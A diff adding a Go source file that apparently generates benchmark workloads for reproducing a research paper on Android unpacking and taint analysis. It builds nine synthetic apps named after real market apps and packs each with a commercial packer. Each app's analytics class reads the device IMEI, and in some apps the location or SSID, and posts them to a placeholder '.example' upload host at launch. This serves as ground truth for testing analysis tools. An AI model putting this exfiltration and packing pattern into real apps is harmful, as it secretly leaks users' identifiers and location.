@@ -1,0 +1,164 @@
+package workload
+
+import (
+	"fmt"
+
+	"dexlego/internal/apk"
+	"dexlego/internal/dexgen"
+	"dexlego/internal/packer"
+)
+
+// MarketApp is one Table V application: a packed app whose analytics
+// module exfiltrates device identifiers.
+type MarketApp struct {
+	App
+	Set      string // application market: A=Google Play, B=360, C=Wandoujia
+	Installs string
+	Flows    int // ground-truth taint flows
+	Packer   packer.Packer
+	Packed   *apk.APK
+}
+
+// marketSpecs mirror Table V's nine applications. Which packer protects
+// each app is our assignment (the paper does not disclose it); every
+// operational packer appears at least once.
+var marketSpecs = []struct {
+	pkg      string
+	version  string
+	set      string
+	installs string
+	flows    int
+	loc      bool
+	ssid     bool
+	packer   string
+}{
+	{"com.lenovo.anyshare", "3.6.68", "A", "100 million", 4, false, false, "360"},
+	{"com.moji.mjweather", "6.0102.02", "A", "1 million", 5, true, false, "Alibaba"},
+	{"com.rongcai.show", "3.4.9", "A", "100 thousand", 3, false, false, "Tencent"},
+	{"com.wawoo.snipershootwar", "2.6", "B", "10 million", 4, false, false, "Baidu"},
+	{"com.wawoo.gunshootwar", "2.6", "B", "10 million", 5, false, false, "Bangcle"},
+	{"com.alex.lookwifipassword", "2.9.6", "B", "100 thousand", 2, false, true, "360"},
+	{"com.gome.eshopnew", "4.3.5", "C", "15.63 million", 3, false, true, "Alibaba"},
+	{"com.szzc.ucar.pilot", "3.4.0", "C", "3.59 million", 5, true, false, "Baidu"},
+	{"com.pingan.pabank.activity", "2.6.9", "C", "7.9 million", 14, true, false, "Tencent"},
+}
+
+// MarketApps generates and packs the nine Table V applications. Every app
+// sends the device ID to a remote server; three also leak location and two
+// leak the SSID, matching the paper's findings.
+func MarketApps() ([]MarketApp, error) {
+	var out []MarketApp
+	for _, spec := range marketSpecs {
+		app, err := buildMarketApp(spec.pkg, spec.version, spec.flows, spec.loc, spec.ssid)
+		if err != nil {
+			return nil, fmt.Errorf("workload: %s: %w", spec.pkg, err)
+		}
+		pk, err := packer.ByName(spec.packer)
+		if err != nil {
+			return nil, err
+		}
+		packed, err := pk.Pack(app.APK)
+		if err != nil {
+			return nil, fmt.Errorf("workload: pack %s: %w", spec.pkg, err)
+		}
+		out = append(out, MarketApp{
+			App:      app,
+			Set:      spec.set,
+			Installs: spec.installs,
+			Flows:    spec.flows,
+			Packer:   pk,
+			Packed:   packed,
+		})
+	}
+	return out, nil
+}
+
+// buildMarketApp creates an app whose analytics class performs exactly
+// `flows` distinct source-to-network flows at launch.
+func buildMarketApp(pkg, version string, flows int, loc, ssid bool) (App, error) {
+	imeiFlows := flows
+	if loc {
+		imeiFlows--
+	}
+	if ssid {
+		imeiFlows--
+	}
+	if imeiFlows < 1 {
+		return App{}, fmt.Errorf("workload: %s needs at least one IMEI flow", pkg)
+	}
+	p := dexgen.New()
+	desc := "Lmarket/Main;"
+	analytics := p.Class("Lmarket/Analytics;", "")
+	analytics.Static("report", "V", []string{"Landroid/app/Activity;"}, func(a *dexgen.Asm) {
+		grab := func(kind string) {
+			// Each sink call is a distinct flow (unique call site).
+			switch kind {
+			case "imei":
+				a.ConstString(0, "phone")
+				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
+					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
+				a.MoveResultObject(0)
+				a.CheckCast(0, "Landroid/telephony/TelephonyManager;")
+				a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
+					"()Ljava/lang/String;", 0)
+			case "location":
+				a.ConstString(0, "location")
+				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
+					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
+				a.MoveResultObject(0)
+				a.CheckCast(0, "Landroid/location/LocationManager;")
+				a.ConstString(1, "gps")
+				a.InvokeVirtual("Landroid/location/LocationManager;", "getLastKnownLocation",
+					"(Ljava/lang/String;)Landroid/location/Location;", 0, 1)
+				a.MoveResultObject(0)
+				a.InvokeVirtual("Landroid/location/Location;", "toString",
+					"()Ljava/lang/String;", 0)
+			case "ssid":
+				a.ConstString(0, "wifi")
+				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
+					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
+				a.MoveResultObject(0)
+				a.CheckCast(0, "Landroid/net/wifi/WifiManager;")
+				a.InvokeVirtual("Landroid/net/wifi/WifiManager;", "getConnectionInfo",
+					"()Landroid/net/wifi/WifiInfo;", 0)
+				a.MoveResultObject(0)
+				a.InvokeVirtual("Landroid/net/wifi/WifiInfo;", "getSSID",
+					"()Ljava/lang/String;", 0)
+			}
+			a.MoveResultObject(1)
+			a.ConstString(2, "https://stats."+pkg+".example/upload")
+			a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
+				"(Ljava/lang/String;Ljava/lang/String;)V", 2, 1)
+		}
+		for i := 0; i < imeiFlows; i++ {
+			grab("imei")
+		}
+		if loc {
+			grab("location")
+		}
+		if ssid {
+			grab("ssid")
+		}
+		a.ReturnVoid()
+	})
+	main := p.Class(desc, "Landroid/app/Activity;")
+	main.Ctor("Landroid/app/Activity;", nil)
+	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
+		a.InvokeStatic("Lmarket/Analytics;", "report", "(Landroid/app/Activity;)V", a.This())
+		a.ReturnVoid()
+	})
+	// Some product code around the analytics for realism.
+	for c := 0; c < 6; c++ {
+		fillerClass(p, fmt.Sprintf("Lmarket/Feature%d;", c), 5, 40, uint32(c)*19+3)
+	}
+	a, err := p.BuildAPK(pkg, version, desc)
+	if err != nil {
+		return App{}, err
+	}
+	data, err := a.Dex()
+	if err != nil {
+		return App{}, err
+	}
+	_ = data
+	return App{Name: pkg, Package: pkg, Version: version, APK: a}, nil
+}
